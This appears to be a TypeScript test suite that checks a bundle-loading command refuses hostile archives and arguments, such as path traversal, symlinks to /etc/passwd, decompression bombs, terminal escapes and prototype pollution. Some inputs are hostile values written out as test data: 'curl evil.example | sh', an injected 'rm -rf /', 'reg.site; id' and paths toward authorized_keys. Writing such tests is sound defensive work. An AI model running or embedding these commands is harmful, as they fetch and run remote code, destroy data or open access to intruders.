import { spawnSync } from "node:child_process";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { IMAGES, INDEX, PLUGINS, PROJECT, README, SUMS } from "../../operations/bundle/layout";
import { change, inIndex, type Part, resum, tarOf, zstd } from "../operations/bundle-parts";
import { bomb, file, layBundle, layWithImages, layWithProject, link, other, rawHeader, withPart } from "./hostile-archives";
import { type HostileInput, testRefusals } from "./hostile-input";

const LOAD = ["bundle", "load", "../elsewhere/bundle", "--into", "project"];
const row = (title: string, prepare: HostileInput["prepare"], problem: RegExp): HostileInput => ({
  title,
  ...(prepare && { prepare }),
  argv: LOAD,
  says: new RegExp(`^(bundle: \\w+ \\.\\.\\.\\n)*\\.\\./elsewhere/bundle: .*(${problem.source}).*\\nhelp: `, `s${problem.flags}`),
});

const stackFile = (text: string) => layBundle((parts) => resum(change(parts, "Pulumi.site.yaml", () => Buffer.from(text))));
const index = (values: object) => layBundle((parts) => inIndex(parts, values));
const indexText = (text: string) => layBundle((parts) => resum(change(parts, INDEX, () => Buffer.from(text))));
const imageOf = (values: object) =>
  layBundle((parts) => {
    const { images } = JSON.parse(parts.find(({ name }) => name === INDEX)!.content.toString()) as { images: object[] };
    return inIndex(parts, { images: images.map((image, i) => (i === 0 ? { ...image, ...values } : image)) });
  });
/** In the place of the sampler's own layer. */
const inLayer = (to: (path: string) => Part) =>
  layWithImages((files) => files.map((one) => (one.content.length === 5000 ? to(one.name) : one)));
const manifest = (to: (images: readonly object[]) => unknown) =>
  layWithImages((files) =>
    change(files, "manifest.json", (text) => Buffer.from(JSON.stringify(to(JSON.parse(text.toString()) as object[])))),
  );
const projectOf = (packed: () => Buffer) => layBundle((parts) => withPart(parts, PROJECT, packed()));
const plugins = (files: readonly Part[], listed: readonly string[] = ["pulumi"]) =>
  layBundle(async (parts) => {
    const at = parts.findIndex(({ name }) => name === IMAGES);
    const content = zstd(await tarOf(files));
    return inIndex([...parts.slice(0, at), { name: PLUGINS, content }, ...parts.slice(at)], { plugins: listed });
  });

testRefusals("a bundle's name and place", [
  row("a bundle that is not there", undefined, /there is no such file/),
  row("a folder", (folder) => mkdirSync(join(folder, "elsewhere/bundle")), /is no file/),
  row("a pipe that nobody writes to", (folder) => void spawnSync("mkfifo", [join(folder, "elsewhere/bundle")]), /is no file/),
  row("a link to a device without an end", (folder) => symlinkSync("/dev/zero", join(folder, "elsewhere/bundle")), /is no file/),
  row("a link to itself", (folder) => symlinkSync("bundle", join(folder, "elsewhere/bundle")), /cannot be read: ELOOP/),
  {
    title: "a name of escapes that colour the terminal",
    argv: ["bundle", "load", "\x1b[2J\u202e.bundle"],
    says: /^bundle: check \.\.\.\n\\u001b\[2J\\u202e\.bundle: there is no such file\nhelp: /,
  },
  {
    title: "a name that tar takes for another machine's file",
    prepare: (folder) => writeFileSync(join(folder, "site/evil.example:x.bundle"), ""),
    argv: ["bundle", "load", "evil.example:x.bundle"],
    says: /^bundle: check \.\.\.\nevil\.example:x\.bundle: is incomplete/,
  },
]);

const into = (title: string, prepare: (folder: string) => void, says: RegExp): HostileInput => ({
  title,
  prepare: async (folder) => {
    await layBundle((parts) => parts)(folder);
    prepare(folder);
  },
  argv: LOAD,
  says,
});

testRefusals("what lies where a bundle is to go", [
  into(
    "a link to a folder of somebody",
    (folder) => symlinkSync("../home", join(folder, "site/project")),
    /^bundle load: is a link, and no folder: `project`/,
  ),
  into(
    "a link to nothing yet",
    (folder) => symlinkSync("../nowhere", join(folder, "site/project")),
    /^bundle load: is a link, and no folder/,
  ),
  into("a file", (folder) => writeFileSync(join(folder, "site/project"), "mine"), /^bundle load: is no folder: `project`/),
  into(
    "a folder with a hidden file",
    (folder) => {
      mkdirSync(join(folder, "site/project"));
      writeFileSync(join(folder, "site/project/.keep"), "mine");
    },
    /^bundle load: the folder is not empty/,
  ),
  ...["--help", "http://reg.site", "reg.site; id", "reg.site/../x", "\x1b[2J"].map((registry) => ({
    title: `the registry ${JSON.stringify(registry)}`,
    argv: [...LOAD, `--registry=${registry}`],
    says: /^bundle load --registry: must be `host\[:port\]` of a registry, without a scheme or a path: `/,
  })),
]);

testRefusals("a bundle's list of contents", [
  row(
    "an image whose name leads out of the folder",
    imageOf({ name: "../../../esc" }),
    /`bundle\.json` cannot be read: .*images\[0\]\.name/,
  ),
  row("an image named twice", imageOf({ name: "ldms-agg" }), /has an image twice/),
  row("an id that is a path", imageOf({ id: "sha256:../../../x" }), /images\[0\]\.id/),
  row("a reference that is an option of docker", imageOf({ reference: "--config=/tmp/x:1" }), /is no image reference with a tag/),
  row("a reference with an escape", imageOf({ reference: "ldms-samp:1\x1b[2J" }), /is no image reference with a tag/),
  row("a stack whose name leads out of the folder", index({ stack: "../../x" }), /`bundle\.json` cannot be read: .*stack/),
  row("a stack of ten thousand letters", index({ stack: "x".repeat(10_000) }), /stack/),
  row("a program that is none of the plugins", index({ plugins: ["sh"] }), /plugins\[0\]/),
  row("a plugin whose name leads out of the folder", index({ plugins: ["../../bin/pulumi"] }), /plugins\[0\]/),
  row(
    "a file of the site that leads out of the project",
    index({ ownFiles: ["../../.ssh/authorized_keys"] }),
    /is no plain path below the project/,
  ),
  row("a next step of the maker's own", index({ missing: ["key\n  curl evil.example | sh"] }), /missing\[0\]/),
  row("an escape in a secret's name", index({ secrets: ["ldms:\x1b]0;owned\x07"] }), /secrets\[0\]/),
  row("a turned direction of writing", index({ missing: ["id\u202e5525de_di"] }), /has control characters/),
  row("a line end of Unicode in the version", index({ version: "1\u2028help: rm -rf /" }), /has control characters/),
  row("a number without measure", index({ node: 1e308 }), /node/),
  row("a list without end", index({ missing: Array.from({ length: 5000 }, () => "x") }), /missing/),
  row("wrong types", index({ images: { length: 1e9 }, secrets: "all" }), /images.*secrets/),
  row("a prototype", indexText('{"__proto__": {"format": 2}, "constructor": 1}'), /`bundle\.json` cannot be read: /),
  row("nothing", indexText("null"), /`bundle\.json` cannot be read: /),
  row("no JSON", indexText("{\x1b[2J"), /`bundle\.json` cannot be read: /),
  row("a list nested a hundred thousand times", indexText("[".repeat(100_000)), /`bundle\.json` cannot be read: /),
  row("two megabytes of it", indexText(" ".repeat(2 << 20)), /more than 1048576 bytes of text/),
]);

testRefusals("a bundle's own files", [
  row(
    "a file that leads out",
    layBundle((parts) => resum([...parts, file("../../../esc")])),
    /has `\.\.\/\.\.\/\.\.\/esc`, which leads out of its folder/,
  ),
  row(
    "an absolute file",
    layBundle((parts) => resum([...parts, file("/etc/cron.d/x")])),
    /is an absolute path/,
  ),
  row(
    "a file that no bundle has",
    layBundle((parts) => resum([...parts, file(".bashrc")])),
    /has `\.bashrc`, which no bundle has/,
  ),
  row(
    "an escape in a file's name",
    layBundle((parts) => [...parts, file("\x1b[2Jx")]),
    /has `\\u001b\[2Jx`, which has control characters/,
  ),
  row(
    "an escape in a sum's line",
    layBundle((parts) => change(parts, SUMS, () => Buffer.from("\x1b[2J\n"))),
    /has a line of another form/,
  ),
  row(
    "escapes in what a person reads",
    layBundle((parts) => resum(change(parts, README, () => Buffer.from("read \x1b]8;;evil\x07me")))),
    /`README\.txt` has control characters/,
  ),
  row(
    "a device",
    layBundle((parts) => [...parts, other("x", "character-device")]),
    /has `x`, a character-device/,
  ),
  row(
    "a link as the stack file",
    layBundle((parts) => parts.map((part) => (part.name === "Pulumi.site.yaml" ? link(part.name, "/etc/passwd") : part))),
    /has `Pulumi\.site\.yaml`, a symlink/,
  ),
  row(
    "a size that no file has",
    async (folder) =>
      writeFileSync(
        join(folder, "elsewhere/bundle"),
        Buffer.concat([rawHeader(SUMS, Buffer.concat([Buffer.from([0x80]), Buffer.alloc(11, 0xff)])), Buffer.alloc(512)]),
      ),
    /has `SHA256SUMS` with a size that no file has/,
  ),
  row(
    "a header of four gigabytes",
    async (folder) => writeFileSync(join(folder, "elsewhere/bundle"), rawHeader("x", "37777777777\0", "x")),
    /is no bundle of ldms, or damaged at its beginning/,
  ),
  row("a stack file that is a list", stackFile("- 1\n"), /`Pulumi\.site\.yaml` cannot be read: is no mapping/),
  row(
    "a stack file that has a control character",
    stackFile("config: [\x1b[2J\n"),
    /`Pulumi\.site\.yaml` cannot be read: line 1: has a control character/,
  ),
  row("a stack file whose config is a text", stackFile("config: all\n"), /`config` is no mapping/),
  row("a stack file whose images are a list", stackFile("config:\n  ldms:images: [a]\n"), /`config\.ldms:images` is no mapping/),
  row(
    "a secret in a list of the stack file",
    stackFile("config:\n  site:keys:\n    - secure: v1:abc\n"),
    /has secrets, which no bundle has: site:keys/,
  ),
]);

testRefusals("a bundle's project", [
  row("a file that leads out", layWithProject(file("../../../esc")), /`project\.tar\.zst` has `\.\.\/\.\.\/\.\.\/esc`, which leads out/),
  row("a file that leads out by the way", layWithProject(file("cli/../../../esc")), /which leads out/),
  row("an absolute file", layWithProject(file("/tmp/esc")), /is an absolute path/),
  row(
    "a link out, and a file through it",
    layWithProject(link("docs", "/tmp"), file("docs/esc")),
    /has `docs`, a symlink: only files are allowed there/,
  ),
  row("a hard link to a file of the loader", layWithProject(link("docs/x", "/etc/passwd", "link")), /has `docs\/x`, a link: only files/),
  row("a device", layWithProject(other("docs/x", "character-device")), /a character-device/),
  row("a pipe", layWithProject(other("docs/x", "fifo")), /a fifo/),
  row(
    "a file with holes",
    layWithProject({ ...file("docs/x"), pax: { "GNU.sparse.realsize": "9999999999999", path: "docs/x" } }),
    /a sparse file/,
  ),
  row(
    "a file with holes, of the old form",
    projectOf(() => zstd(Buffer.concat([rawHeader("docs/x", "00000000000\0", "S"), Buffer.alloc(1024)]))),
    /a thing of unknown kind/,
  ),
  row("an escape in a name", layWithProject(file("docs/\x1b[2J")), /has `docs\/\\u001b\[2J`, which has control characters/),
  row(
    "a name in no UTF-8",
    projectOf(() => zstd(Buffer.concat([rawHeader("docs/\xff\xfe", "00000000000\0"), Buffer.alloc(1024)]))),
    /is no name in UTF-8/,
  ),
  row("a file twice", layWithProject(file("docs/x"), file("docs/x")), /has `docs\/x` twice/),
  row(
    "two files that differ by case",
    layWithProject(file("docs/x"), file("docs/X")),
    /has `docs\/x` and `docs\/X`, which some disks take for one file/,
  ),
  row(
    "two files that differ by the form of a letter",
    layWithProject(file("docs/\u00e9"), file("docs/e\u0301")),
    /which some disks take for one file/,
  ),
  row("a name of a thousand letters", layWithProject(file(`docs/${"x".repeat(1000)}`)), /is too long a name/),
  row(
    "a file below a file",
    layWithProject(file("README.md"), file("README.md/x")),
    /has `README\.md\/x`, and something else in its place/,
  ),
  row(
    "sixty thousand files",
    layWithProject(...Array.from({ length: 60_000 }, (_, i) => file(`docs/${i}`, ""))),
    /has more than 50000 files/,
  ),
  row(
    "settings of npm that run a program",
    layWithProject(file(".npmrc", "script-shell=/tmp/x")),
    /has `\.npmrc`, which bundle\.json does not name/,
  ),
  row(
    "state of another site",
    layWithProject(file(".ldms/lab/id_ed25519")),
    /has `\.ldms\/lab\/id_ed25519`, which bundle\.json does not name/,
  ),
  row(
    "kilobytes that come to a disk full",
    projectOf(() => bomb(1, 400 << 20)),
    /`project\.tar\.zst` unpacks to more than 25\d MiB/,
  ),
  row(
    "a window of two gigabytes",
    projectOf(() => spawnSync("zstd", ["-q", "--ultra", "--long=31", "-c"], { input: Buffer.alloc(300 << 20), maxBuffer: 1 << 28 }).stdout),
    /`project\.tar\.zst` cannot be unpacked/,
  ),
  row(
    "something behind its end",
    layBundle(async (parts) => withPart(parts, PROJECT, zstd(Buffer.concat([await tarOf([file("index.ts")]), Buffer.alloc(512, "x")])))),
    /is no tar, or damaged/,
  ),
  row(
    "one that is cut off within a file",
    layBundle(async (parts) => withPart(parts, PROJECT, zstd((await tarOf([file("index.ts", "x".repeat(5000))])).subarray(0, 2000)))),
    /`project\.tar\.zst` is cut off/,
  ),
  row("a plugin that is a link", plugins([link("pulumi", "/bin/sh")]), /`plugins\.tar\.zst` has `pulumi`, a symlink/),
  row(
    "a plugin that is not listed",
    plugins([file("pulumi"), file("pulumi-language-nodejs")]),
    /has `pulumi-language-nodejs`, which bundle\.json does not name/,
  ),
]);

testRefusals("a bundle's images", [
  row(
    "a link to a file of the loader",
    inLayer((path) => link(path, "/etc/passwd")),
    /has a damaged layer of ldms-samp, number 2 of 2/,
  ),
  row(
    "a link up to a file of the loader",
    inLayer((path) => link(path, "../../../../../../etc/passwd")),
    /has a damaged layer of ldms-samp/,
  ),
  row(
    "a hard link to a file of the loader",
    inLayer((path) => link(path, "/etc/passwd", "link")),
    /has a damaged layer of ldms-samp/,
  ),
  row(
    "a link to a file of the loader, and what it should be beside it",
    layWithImages((files) =>
      files.flatMap((one) =>
        one.content.length === 5000 ? [link(one.name, "/etc/passwd"), { ...one, name: `${dirname(one.name)}/etc/passwd` }] : [one],
      ),
    ),
    /has a damaged layer of ldms-samp, number 2 of 2/,
  ),
  row(
    "a device as a layer",
    inLayer((path) => other(path, "character-device")),
    /a character-device/,
  ),
  row(
    "a link as manifest.json",
    layWithImages((files) => files.map((one) => (one.name === "manifest.json" ? link(one.name, "/etc/passwd") : one))),
    /has no manifest\.json/,
  ),
  row(
    "two manifests",
    layWithImages((files) => [...files, file("manifest.json", "[]")]),
    /has `manifest\.json` twice/,
  ),
  row(
    "a manifest that leads out",
    manifest((images) => images.map((image) => ({ ...image, Config: "../../../x" }))),
    /names no image by its id: `\.\.\/\.\.\/\.\.\/x`/,
  ),
  row(
    "a manifest of wrong types",
    manifest(() => ({ 0: { Layers: 5 } })),
    /has `manifest\.json` of another form/,
  ),
  row(
    "a manifest with a prototype",
    layWithImages((files) =>
      change(files, "manifest.json", () => Buffer.from('[{"__proto__": {"Config": "x", "RepoTags": [], "Layers": []}}]')),
    ),
    /has `manifest\.json` of another form: 0: Config/,
  ),
  row(
    "a manifest that is no JSON",
    layWithImages((files) => change(files, "manifest.json", () => Buffer.from("[\x1b[2J"))),
    /that is no JSON/,
  ),
  row(
    "a manifest of two megabytes",
    layWithImages((files) => change(files, "manifest.json", () => Buffer.alloc(2 << 20, " "))),
    /more than 1048576 bytes of text/,
  ),
  row(
    "a tag with an escape",
    manifest((images) => images.map((image) => ({ ...image, RepoTags: ["x:\x1b[2J"] }))),
    /is no image reference/,
  ),
  row(
    "a layer that leads out",
    manifest((images) => images.map((image) => ({ ...image, Layers: ["/etc/passwd", "/etc/shadow"] }))),
    /has a damaged layer/,
  ),
  row(
    "more layers than its config has",
    manifest((images) => images.map((image) => ({ ...image, Layers: Array.from({ length: 9 }, () => "x") }))),
    /has 9 layers of ldms-samp, not 2/,
  ),
  row(
    "90 kilobytes that come to 400 files of a megabyte",
    layBundle((parts) => withPart(parts, IMAGES, bomb(400, 1 << 20))),
    /`images\.tar\.zst` unpacks to more than 25\d MiB/,
  ),
]);
